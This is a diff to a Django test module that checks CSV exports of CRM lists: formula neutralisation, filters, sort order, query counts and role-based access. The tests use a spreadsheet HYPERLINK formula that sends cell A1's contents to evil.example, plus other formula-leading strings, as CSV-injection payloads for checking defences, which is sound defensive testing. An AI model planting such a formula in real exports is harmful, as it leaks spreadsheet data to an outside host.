@@ -5,15 +5,35 @@ import ast
 import csv
 import io
 from pathlib import Path
+from urllib.parse import parse_qs, urlsplit
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
+import tests.paging
 from config import spreadsheet
 from config.spreadsheet import safe_cell, unescape_cell
+from customers import selectors as customers_selectors
 from customers.models import Customer, ImportRowError
-from tests.factories import ChannelFactory, ChannelSpendFactory, CustomerFactory, ImportJobFactory
+from feedback import selectors as feedback_selectors
+from leads import selectors as leads_selectors
+from tests.conftest import ROLES
+from tests.factories import (
+    CampaignFactory,
+    ChannelFactory,
+    ChannelSpendFactory,
+    ComplaintFactory,
+    CustomerFactory,
+    ImportJobFactory,
+    LeadFactory,
+    NpsResponseFactory,
+    OrderFactory,
+    TagFactory,
+    UserFactory,
+)
 
 ROOT = Path(__file__).resolve().parents[2]
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -95,3 +115,159 @@ def test_every_csv_writer_is_the_safe_one():
                 ):
                     offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
     assert not offenders, "use config.spreadsheet.writer: " + ", ".join(offenders)
+
+
+# --- every list exports CSV with the page's filters and sort (config.lists, config.spreadsheet.streaming_response) ---
+
+
+def _lead(n: int, name: str = "Li Na"):
+    return [LeadFactory(customer=CustomerFactory(name=name), interest="@formula interest") for _ in range(n)]
+
+
+def _order(n: int, name: str = "Li Na"):
+    return [OrderFactory(customer=CustomerFactory(name=name), external_id=f"-ext-{i}") for i in range(n)]
+
+
+def _complaint(n: int, name: str = "Li Na"):
+    return [ComplaintFactory(customer=CustomerFactory(name=name), description="+1 refund please") for _ in range(n)]
+
+
+def _nps(n: int, name: str = "Li Na"):
+    return [NpsResponseFactory(customer=CustomerFactory(name=name), score=3, comment="=bad") for _ in range(n)]
+
+
+def _campaign(n: int, name: str = "Spring"):
+    return [CampaignFactory(name=f"{name} {i}" if i else name) for i in range(n)]
+
+
+def _spend(n: int, name: str = "Douyin"):
+    channel = ChannelFactory(name=name)
+    return [ChannelSpendFactory(channel=channel, month=f"{2020 + i}-03-01") for i in range(n)]
+
+
+# list URL name, export URL name, make(n, name), header, the column holding `name`, a sort of the list
+EXPORTS = {
+    "leads": ("leads:lead-list", "leads:lead-export", _lead, leads_selectors.EXPORT_HEADER, 2, "-id"),
+    "orders": (
+        "customers:order-list",
+        "customers:order-export",
+        _order,
+        customers_selectors.ORDER_EXPORT_HEADER,
+        2,
+        "-amount",
+    ),
+    "campaigns": (
+        "customers:campaign-list",
+        "customers:campaign-export",
+        _campaign,
+        customers_selectors.CAMPAIGN_EXPORT_HEADER,
+        1,
+        "name",
+    ),
+    "spend": (
+        "customers:spend-list",
+        "customers:spend-export",
+        _spend,
+        customers_selectors.SPEND_EXPORT_HEADER,
+        2,
+        "month",
+    ),
+    "complaints": (
+        "feedback:complaint-list",
+        "feedback:complaint-export",
+        _complaint,
+        feedback_selectors.COMPLAINT_EXPORT_HEADER,
+        2,
+        "-severity",
+    ),
+    "nps": ("feedback:nps-list", "feedback:nps-export", _nps, feedback_selectors.NPS_EXPORT_HEADER, 2, "score"),
+}
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("kind", EXPORTS)
+def test_each_list_exports_its_header_and_rows_with_formulas_neutralised(client_as, kind):
+    _list, export, make, header, column, _sort = EXPORTS[kind]
+    make(1, FORMULA)
+    rows = _rows(client_as("sales").get(reverse(export)))
+    assert rows[0] == header
+    assert rows[1][column] == "'" + FORMULA
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("kind", EXPORTS)
+def test_the_export_has_the_rows_and_order_of_the_sorted_page_whole(client_as, kind):
+    list_name, export, make, _header, _column, sort = EXPORTS[kind]
+    make(7)
+    client = client_as("marketing")
+    page = client.get(reverse(list_name), {"sort": sort, "size": 3})
+    first = page.context["leads"] if kind == "leads" else None
+    shown = [row["pk"] for row in first] if first is not None else tests.paging.page_ids(page)
+    cursor = parse_qs(urlsplit(page.context["next_url"]).query)["after"][0]
+    rows = _rows(client.get(reverse(export), {"sort": sort, "size": 3, "after": cursor}))
+    exported = [int(row[0]) for row in rows[1:]]
+    assert len(exported) == 7  # every row: neither the page size nor a page cursor cuts an export
+    assert exported[:3] == shown  # in the page's order
+
+
+@pytest.mark.django_db
+def test_the_export_keeps_the_page_filters(client_as):
+    kept = LeadFactory(is_high_intent=True)
+    LeadFactory()
+    rows = _rows(client_as("sales").get(reverse("leads:lead-export"), {"high_intent": "true"}))
+    assert [row[0] for row in rows[1:]] == [str(kept.pk)]
+    order = OrderFactory(external_id="A-1")
+    OrderFactory(external_id="B-2")
+    rows = _rows(client_as("sales").get(reverse("customers:order-export"), {"customer": order.customer_id}))
+    assert [row[0] for row in rows[1:]] == [str(order.pk)]
+
+
+@pytest.mark.django_db
+def test_the_lead_export_joins_tags_in_one_cell(client_as):
+    lead = LeadFactory()
+    lead.tags.add(TagFactory(name="vip"), TagFactory(name="hot"))
+    rows = _rows(client_as("sales").get(reverse("leads:lead-export")))
+    assert sorted(rows[1][8].split(", ")) == ["hot", "vip"]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("kind", EXPORTS)
+def test_an_export_costs_the_same_queries_for_2_rows_as_for_40(client_as, kind, django_assert_max_num_queries):
+    _list, export, make, _header, _column, sort = EXPORTS[kind]
+    client = client_as("admin")
+    url = reverse(export) + f"?sort={sort}"
+
+    def count() -> tuple[int, int]:
+        with CaptureQueriesContext(connection) as queries:
+            rows = _rows(client.get(url))  # the rows are read while the answer streams
+        return len(queries.captured_queries), len(rows) - 1
+
+    make(2)
+    count()  # warm per-process caches
+    small, shown = count()
+    assert shown == 2
+    make(38)
+    with django_assert_max_num_queries(small):
+        large, shown = count()
+    assert (large, shown) == (small, 40)
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("kind", EXPORTS)
+@pytest.mark.parametrize("role", ROLES)
+def test_every_staff_role_exports_what_it_reads(client_as, kind, role):
+    response = client_as(role).get(reverse(EXPORTS[kind][1]))
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"].startswith('attachment; filename="')
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("kind", EXPORTS)
+def test_outsiders_get_no_export(client, kind):
+    url = reverse(EXPORTS[kind][1])
+    response = client.get(url)
+    assert response.status_code == 302 and "/login/" in response["Location"]
+    client.force_login(UserFactory())  # signed in, in no department
+    assert client.get(url).status_code == 403
